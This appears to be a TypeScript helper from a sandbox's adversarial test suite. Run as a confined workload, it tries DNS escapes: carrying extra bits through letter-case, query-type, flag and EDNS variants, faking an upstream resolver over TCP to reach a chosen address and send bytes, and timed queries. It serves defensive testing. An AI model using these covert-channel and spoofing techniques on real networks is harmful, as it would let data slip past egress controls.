// The DNS attacks of test/adversarial/dns.test.ts, run AS the workload
// (`node dist/test/adversarial/dnswork.js MODE …` under `gensee run`). It
// asks the first nameserver of /etc/resolv.conf (the operation's stub) and
// prints one JSON line {attack, …} on stdout.
//
//   variants NAME NAME2   the same name in every spelling, type, flag and
//                         EDNS shape a workload could use to carry bits past
//                         the budget, then a second name (past a budget of 1)
//   fakeup PORT NAME LPORT ADDR
//                         stand in for a UDP-only upstream on 127.0.0.1:PORT
//                         over TCP, answering every question with ADDR; ask
//                         NAME over TCP; then connect to ADDR:LPORT and send
//   waitgo FILE NAME      wait (at most 30 s) until FILE exists, then ask NAME
import * as dgram from 'node:dgram';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as dnsPacket from 'dns-packet';

const TIMEOUT_MS = 2000;

function stub(): string {
  const m = /^nameserver\s+(\S+)/m.exec(fs.readFileSync('/etc/resolv.conf', 'utf8'));
  if (!m) throw new Error('no nameserver in /etc/resolv.conf');
  return m[1];
}

const out = (o: Record<string, unknown>): void => void process.stdout.write(JSON.stringify(o) + '\n');

/** one UDP exchange: the rcode, or TIMEOUT */
function udp(host: string, msg: Buffer): Promise<string> {
  return new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    const done = (r: string): void => {
      clearTimeout(timer);
      s.close();
      resolve(r);
    };
    const timer = setTimeout(() => done('TIMEOUT'), TIMEOUT_MS);
    s.on('error', (e: NodeJS.ErrnoException) => done(e.code ?? 'error'));
    s.on('message', (b) => {
      try {
        done((dnsPacket.decode(b) as { rcode?: string }).rcode ?? '?');
      } catch {
        done('undecodable');
      }
    });
    s.send(msg, 53, host);
  });
}

/** one TCP exchange: the decoded answer, or an error code */
function tcp(host: string, port: number, msg: Buffer): Promise<dnsPacket.DecodedPacket | string> {
  return new Promise((resolve) => {
    const s = net.connect({ host, port });
    let buf = Buffer.alloc(0);
    const done = (r: dnsPacket.DecodedPacket | string): void => {
      clearTimeout(timer);
      s.destroy();
      resolve(r);
    };
    const timer = setTimeout(() => done('TIMEOUT'), TIMEOUT_MS * 2);
    s.on('error', (e: NodeJS.ErrnoException) => done(e.code ?? 'error'));
    s.on('connect', () => {
      const l = Buffer.alloc(2);
      l.writeUInt16BE(msg.length);
      s.write(Buffer.concat([l, msg]));
    });
    s.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      if (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
        try {
          done(dnsPacket.decode(buf.subarray(2, 2 + buf.readUInt16BE(0))));
        } catch {
          done('undecodable');
        }
      }
    });
  });
}

const opt = (size: number, flags: number, options: dnsPacket.OptAnswer['options'] = []): dnsPacket.OptAnswer => ({
  type: 'OPT',
  name: '.',
  udpPayloadSize: size,
  extendedRcode: 0,
  ednsVersion: 0,
  flags,
  flag_do: (flags & dnsPacket.DNSSEC_OK) !== 0,
  options,
});

/** every letter-case spelling of name's first label, up to n */
function spellings(name: string, n: number): string[] {
  const [first, ...rest] = name.split('.');
  const r: string[] = [];
  for (let m = 0; m < Math.min(n, 1 << first.length); m++) {
    const l = [...first].map((c, i) => ((m >> i) & 1 ? c.toUpperCase() : c)).join('');
    r.push([l, ...rest].join('.'));
  }
  return r;
}

async function variants(name: string, name2: string): Promise<void> {
  const host = stub();
  const msgs: Buffer[] = [];
  let id = 1;
  const q = (o: { name?: string; type?: string; flags?: number; additionals?: dnsPacket.Answer[] }): Buffer =>
    dnsPacket.encode({
      id: id++,
      type: 'query',
      flags: o.flags ?? dnsPacket.RECURSION_DESIRED,
      questions: [{ name: o.name ?? name, type: (o.type ?? 'A') as dnsPacket.RecordType, class: 'IN' }],
      additionals: o.additionals ?? [],
    });
  // letter case: one bit per letter
  for (const s of spellings(name, 16)) msgs.push(q({ name: s }));
  // query types
  for (const type of ['AAAA', 'TXT', 'MX', 'NS', 'SOA', 'CNAME', 'PTR', 'SRV', 'CAA', 'HTTPS', 'NULL', 'ANY']) msgs.push(q({ type }));
  // header flags: RD off, CD, AD, the Z bit
  for (const flags of [0, dnsPacket.CHECKING_DISABLED, dnsPacket.AUTHENTIC_DATA, 1 << 6, dnsPacket.RECURSION_DESIRED | dnsPacket.CHECKING_DISABLED]) msgs.push(q({ flags }));
  // EDNS: sizes, the DO bit, options (padding of chosen lengths, a cookie)
  for (const size of [512, 777, 1232, 1400, 2048, 4096]) msgs.push(q({ additionals: [opt(size, 0)] }));
  msgs.push(q({ additionals: [opt(1232, dnsPacket.DNSSEC_OK)] }));
  for (const length of [3, 17]) msgs.push(q({ additionals: [opt(1232, 0, [{ code: 12, length }])] }));
  msgs.push(q({ additionals: [opt(1232, 0, [{ code: 10, data: Buffer.from('a1b2c3d4e5f60718', 'hex') } as never])] }));
  const rcodes: Record<string, number> = {};
  for (const m of msgs) {
    const r = await udp(host, m);
    rcodes[r] = (rcodes[r] ?? 0) + 1;
  }
  // a fresh name past the budget, in two shapes
  const past = [await udp(host, q({ name: name2 })), await udp(host, q({ name: name2.toUpperCase(), type: 'AAAA' }))];
  out({ attack: 'variants', sent: msgs.length, rcodes, past });
}

async function fakeup(port: number, name: string, lport: number, addr: string): Promise<void> {
  let asked = 0;
  const srv = net.createServer((s) => {
    let buf = Buffer.alloc(0);
    s.on('error', () => undefined);
    s.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
        const m = dnsPacket.decode(buf.subarray(2, 2 + buf.readUInt16BE(0)));
        buf = buf.subarray(2 + buf.readUInt16BE(0));
        asked++;
        const qq = (m.questions ?? [])[0];
        const a = dnsPacket.encode({ id: m.id, type: 'response', flags: dnsPacket.AUTHORITATIVE_ANSWER, questions: [qq], answers: qq ? [{ type: 'A', name: qq.name, ttl: 300, data: addr }] : [] });
        const l = Buffer.alloc(2);
        l.writeUInt16BE(a.length);
        s.write(Buffer.concat([l, a]));
      }
    });
  });
  const listening = await new Promise<string>((resolve) => {
    srv.once('error', (e: NodeJS.ErrnoException) => resolve(e.code ?? 'error'));
    srv.listen(port, '127.0.0.1', () => resolve('ok'));
  });
  const r = await tcp(stub(), 53, dnsPacket.encode({ id: 7, type: 'query', flags: dnsPacket.RECURSION_DESIRED, questions: [{ name, type: 'A', class: 'IN' }] }));
  const addresses = typeof r === 'string' ? [] : (r.answers ?? []).filter((x) => x.type === 'A').map((x) => (x as { data: string }).data);
  const connect = await new Promise<string>((resolve) => {
    const c = net.connect({ host: addr, port: lport });
    c.on('connect', () => c.end('bytes the workload chose to send', () => resolve('ok')));
    c.on('error', (e: NodeJS.ErrnoException) => resolve(e.code ?? 'error'));
  });
  srv.close();
  out({ attack: 'fakeup', listening, asked, rcode: typeof r === 'string' ? r : ((r as { rcode?: string }).rcode ?? '?'), addresses, connect });
}

async function waitgo(file: string, name: string): Promise<void> {
  const end = Date.now() + 30_000;
  while (!fs.existsSync(file) && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
  const rcode = await udp(stub(), dnsPacket.encode({ id: 9, type: 'query', flags: dnsPacket.RECURSION_DESIRED, questions: [{ name, type: 'A', class: 'IN' }] }));
  out({ attack: 'waitgo', go: fs.existsSync(file), rcode });
}

async function main(): Promise<void> {
  const [mode, ...a] = process.argv.slice(2);
  if (mode === 'variants') return variants(a[0], a[1]);
  if (mode === 'fakeup') return fakeup(Number(a[0]), a[1], Number(a[2]), a[3]);
  if (mode === 'waitgo') return waitgo(a[0], a[1]);
  throw new Error('usage: dnswork.js variants NAME NAME2 | fakeup PORT NAME LPORT ADDR | waitgo FILE NAME');
}

main().catch((e: unknown) => {
  process.stderr.write(`dnswork: ${e instanceof Error ? e.message : String(e)}\n`);
  process.exitCode = 1;
});
